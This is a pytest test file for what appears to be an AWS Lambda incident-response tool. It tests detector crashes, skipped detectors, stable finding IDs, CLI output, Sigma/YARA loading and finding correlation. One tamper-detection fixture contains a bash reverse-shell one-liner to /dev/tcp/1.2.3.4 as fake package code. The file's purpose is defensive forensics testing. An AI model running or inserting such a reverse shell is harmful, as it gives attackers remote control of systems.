"""The engine: findings.json, custody, crashes as warnings, skipped detectors, stable ids."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

from click.testing import CliRunner

from lambda_ir.analyze import detectors
from lambda_ir.analyze.caseview import CaseView
from lambda_ir.analyze.detector import Detector, DetectorInfo
from lambda_ir.analyze.detectors import ALL
from lambda_ir.analyze.engine import analyze_case
from lambda_ir.cli.main import cli
from lambda_ir.evidence import Case
from lambda_ir.model import Finding, Kind, Severity
from tests.analyze.casebuild import CaseBuilder, trail_event

PUBLIC = trail_event(
    "AddPermission20150331v2",
    {"functionName": "orders", "principal": "*", "action": "lambda:InvokeFunction"},
)


def _crash(case: CaseView) -> Iterator[Finding]:
    raise RuntimeError("boom")
    yield  # pragma: no cover


CRASHING = Detector(
    DetectorInfo("LIR-TEST-001", "crashes", Severity.LOW, (), (Kind.TRAIL,)), _crash
)
NEEDS_LOGS = Detector(
    DetectorInfo("LIR-TEST-002", "needs logs", Severity.LOW, (), (Kind.LOGS,)), _crash
)


def test_crash_is_a_warning_and_others_still_run(builder: CaseBuilder) -> None:
    builder.trail([PUBLIC])
    result, target = analyze_case(builder.case, (CRASHING, NEEDS_LOGS, *ALL))
    assert [(w.detector, w.reason) for w in result.warnings] == [
        ("LIR-TEST-001", "RuntimeError: boom")
    ]
    assert result.skipped[0].detector == "LIR-TEST-002"
    assert "no logs evidence" in result.skipped[0].reason
    assert [f.detector for f in result.findings] == ["LIR-CT-001"]
    written = json.loads(target.read_text())
    assert written[0]["detector"] == "LIR-CT-001"
    for key in (
        "id",
        "title",
        "severity",
        "resource",
        "account",
        "region",
        "attack",
        "summary",
        "evidence",
        "time",
        "actor",
    ):
        assert key in written[0]
    custody = (builder.root / "custody.jsonl").read_text().splitlines()
    last = json.loads(custody[-1])
    assert last["action"] == "analyzed" and last["details"]["findings"] == 1
    assert last["details"]["warnings"] == ["LIR-TEST-001: RuntimeError: boom"]


def test_ids_are_stable_across_runs(builder: CaseBuilder) -> None:
    builder.trail([PUBLIC])
    first, _ = analyze_case(builder.case, ALL)
    second, _ = analyze_case(Case.open(builder.root), ALL)
    assert [f.id for f in first.findings] == [f.id for f in second.findings]
    assert first.findings[0].id.startswith("LIR-CT-001:")


def test_catalogue() -> None:
    ids = [d.info.id for d in ALL]
    assert len(ids) == len(set(ids))
    modules = {p.stem for p in Path(detectors.__file__).parent.glob("*.py")} - {"__init__"}
    listed = {d.detect.__module__.rsplit(".", 1)[-1] for d in ALL}
    assert modules <= listed, modules - listed
    for detector in ALL:
        info = detector.info
        assert re.fullmatch(r"LIR-[A-Z]+-\d{3}", info.id)
        assert info.attack and all(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in info.attack)
        assert info.title and info.references and info.false_positives
        assert info.evidence or info.id.startswith("LIR-GAP-")  # gaps read the manifest itself
        assert detector.detect.__doc__, info.id


def test_cli_analyze_end_to_end(builder: CaseBuilder) -> None:
    builder.trail([PUBLIC])
    result = CliRunner().invoke(cli, ["analyze", "--case", str(builder.root)])
    assert result.exit_code == 0, result.output
    assert "1 finding (0 critical, 1 high" in result.output
    assert "LIR-CT-001" in result.output
    assert json.loads((builder.root / "findings.json").read_text())[0]["severity"] == "high"


def test_cli_analyze_json_and_help(builder: CaseBuilder) -> None:
    builder.trail([PUBLIC])
    result = CliRunner().invoke(cli, ["--json", "analyze", "--case", str(builder.root)])
    document = json.loads(result.stdout)
    assert document["counts"]["high"] == 1
    help_text = CliRunner().invoke(cli, ["analyze", "--help"]).output
    for flag in ("--yara", "--sigma", "--ioc", "--allow", "--case"):
        assert flag in help_text


def test_cli_refuses_a_folder_that_is_not_a_case(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["analyze", "--case", str(tmp_path)])
    assert result.exit_code != 0


def test_cli_reports_unsupported_sigma_and_bad_yara(builder: CaseBuilder, tmp_path: Path) -> None:
    builder.trail([PUBLIC])
    sigma = tmp_path / "sigma"
    sigma.mkdir()
    (sigma / "win.yml").write_text(
        "title: w\nlogsource: {product: windows}\ndetection: {s: {EventID: 1}, condition: s}\n"
    )
    out = CliRunner().invoke(cli, ["analyze", "--case", str(builder.root), "--sigma", str(sigma)])
    assert out.exit_code == 0
    assert "sigma: 0 rules compiled, 1 unsupported" in out.output
    assert "not aws/cloudtrail" in out.output
    yara = tmp_path / "yara"
    yara.mkdir()
    (yara / "bad.yar").write_text("rule broken { condition: nope }")
    bad = CliRunner().invoke(cli, ["analyze", "--case", str(builder.root), "--yara", str(yara)])
    assert bad.exit_code == 1
    assert "does not compile" in bad.output


def test_altered_package_is_a_loud_warning_not_a_silent_finding(builder: CaseBuilder) -> None:
    from tests.analyze.casebuild import function_config, zip_bytes

    blob = zip_bytes({"app.py": "def handler(e, c):\n    return 1\n"})
    entry = builder.code(blob, "orders")
    builder.versions("orders", [function_config("orders", code=blob)])
    path = builder.root / entry.path
    path.chmod(0o644)  # evidence is read-only; this test tampers with it on purpose
    path.write_bytes(
        zip_bytes({"app.py": "import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/1 0>&1')\n"})
    )
    result, _ = analyze_case(Case.open(builder.root), ALL)
    failed = {w.detector: w.reason for w in result.warnings}
    assert "does not match its manifest hash" in failed["LIR-CODE-001"]
    assert not [f for f in result.findings if f.detector.startswith("yara:")]


def test_correlate_keeps_every_field_of_a_finding_and_findings_have_no_dict() -> None:
    """correlate rebuilds each finding positionally (fast); a field added to Finding must
    come through, and slots keep a finding small (no per-object __dict__)."""
    import dataclasses

    from lambda_ir.analyze.incidents import correlate
    from lambda_ir.model import Actor, EvidenceRef

    actor = Actor("arn:aws:iam::1:user/eve", "IAMUser", "AKIA1", "", "203.0.113.9", "curl")
    finding = Finding(
        "F-1", "LIR-CT-001", "t", Severity.HIGH, "arn:aws:lambda:r:1:function:f", "1", "r", "s",
        (EvidenceRef("trail/x.json", "ab"),), ("T1",), "2024-01-01T00:00:00Z", actor, {"k": 1},
    )  # fmt: skip
    incidents, (tagged,) = correlate([finding])
    assert tagged == dataclasses.replace(finding, incident=incidents[0].id)
    assert all(getattr(tagged, f.name) for f in dataclasses.fields(Finding))
    assert not hasattr(tagged, "__dict__") and not hasattr(actor, "__dict__")
    assert actor.to_json() == {
        "arn": "arn:aws:iam::1:user/eve",
        "type": "IAMUser",
        "access_key_id": "AKIA1",
        "source_ip": "203.0.113.9",
        "user_agent": "curl",
    }
